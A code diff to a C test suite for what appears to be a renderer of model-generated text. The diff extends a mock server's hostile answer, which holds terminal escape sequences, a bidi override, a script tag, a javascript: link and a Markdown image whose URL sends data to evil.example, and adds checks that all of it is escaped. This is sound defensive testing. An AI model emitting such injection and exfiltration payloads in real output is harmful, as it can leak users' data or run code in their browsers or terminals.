@@ -53,12 +53,14 @@ static const char *k_modes[M_N] = { "ok",      "ndjson", "fail500", "sleep", "fi
                                     "garbage", "cut",    "hostile", "escerr" };
 
 /* What /hostile answers: a terminal escape (ESC and the one-byte C1 CSI), a bidi override, a
- * byte that is not UTF-8, HTML and a Markdown image whose URL would carry data away. */
-#define HOSTILE_TEXT                      \
-    "Paths\x1b]0;owned\x07 rise\xc2\x9b"  \
-    "2J \xe2\x80\xae"                     \
-    "evil\xff <script>alert(1)</script> " \
-    "![x](http://evil.example/p.png?d=AAPL) [click](javascript:alert(1))"
+ * byte that is not UTF-8, HTML, a Markdown image whose URL would carry data away, and lines
+ * that would be a heading, a table and a setext underline in Markdown. */
+#define HOSTILE_TEXT                                                        \
+    "Paths\x1b]0;owned\x07 rise\xc2\x9b"                                    \
+    "2J \xe2\x80\xae"                                                       \
+    "evil\xff <script>alert(1)</script> "                                   \
+    "![x](http://evil.example/p.png?d=AAPL) [click](javascript:alert(1))\n" \
+    "# BUY NOW\n| a | b |\n|---|---|\nSell\n==="
 
 static struct MHD_Daemon *g_mhd;
 static int g_port, g_closed_port;
@@ -627,6 +629,12 @@ static void test_hostile_answer(void **state) {
     assert_null(strstr(md, "[click]("));
     assert_non_null(strstr(md, "!\\[x\\](http://evil.example/p.png?d=AAPL)"));
     assert_non_null(strstr(md, "&lt;script&gt;"));
+    /* The model's lines stay quoted text: no heading, table or setext underline of its own. */
+    assert_non_null(strstr(md, "\n> \\# BUY NOW\n"));
+    assert_non_null(strstr(md, "\n> \\| a \\| b \\|\n"));
+    assert_non_null(strstr(md, "\n> \\=\\=\\=") || strstr(md, "\n> \\==="));
+    assert_null(strstr(md, "\n> # "));
+    assert_null(strstr(md, "\n> | a"));
     assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
     kr_narrative_free(n);
 
